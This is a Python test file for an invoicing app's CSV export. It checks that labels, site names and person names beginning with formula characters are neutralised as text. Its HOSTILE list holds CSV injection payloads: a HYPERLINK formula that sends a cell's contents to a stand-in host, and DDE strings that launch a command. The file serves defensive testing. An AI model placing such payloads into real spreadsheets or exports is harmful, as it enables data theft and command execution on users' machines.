"""CSV injection (OWASP): a label, site or person name that starts a formula is written as text in
every CSV export; amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

from sosdesk.invoicing.drafts import actor_for, regional_draft
from sosdesk.invoicing.exports import export_invoice
from sosdesk.store import Store
from sosdesk.store import models as m
from sosdesk.store.csv_export import csv_text, safe_text
from tests.invoicing.invoicing_world import NOW, add_expense, add_meeting

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_safe_text_rule() -> None:
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
    for text in ("-12,50", "+3", "-1 234,50", "Dupont", "", "12", "a=b"):
        assert safe_text(text) == text


def test_reports_csv_neutralises_names() -> None:
    body = csv_text(["Bénéficiaire", "Minutes"], [["+cmd|' /C calc'!A0", -30], ["Martin", 60]])
    rows = list(csv.reader(body.splitlines(), delimiter=";"))
    assert rows[1] == ["'+cmd|' /C calc'!A0", "-30"] and rows[2] == ["Martin", "60"]


def test_invoice_annex_neutralises_labels_and_sites(world: Store, tmp_path: Path) -> None:
    with world.transaction("hostile") as (s, _):
        site = s.get(m.Site, "S2")
        assert site is not None
        site.name = HOSTILE[1]
    add_meeting(world, "M1", "2026-10-05T09:00:00+02:00", site="S2")
    add_expense(world, "E1", "2026-10-03", "room_rental", 12000)
    with world.transaction("hostile label") as (s, _):
        expense = s.get(m.Expense, "E1")
        assert expense is not None
        expense.label = HOSTILE[0]
    invoice, _ = regional_draft(world, actor_for(world), "IDF", "2026-10", now=NOW)
    lines, annex = export_invoice(world, invoice, "csv", tmp_path / "F.csv")
    for path in (lines, annex):
        cells = [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
                 for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], path.name
        assert not [c for c in cells if c.startswith("-") and not c.replace(",", "").lstrip("-").isdigit()]
    annex_text = annex.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in annex_text and "'@SUM" in annex_text
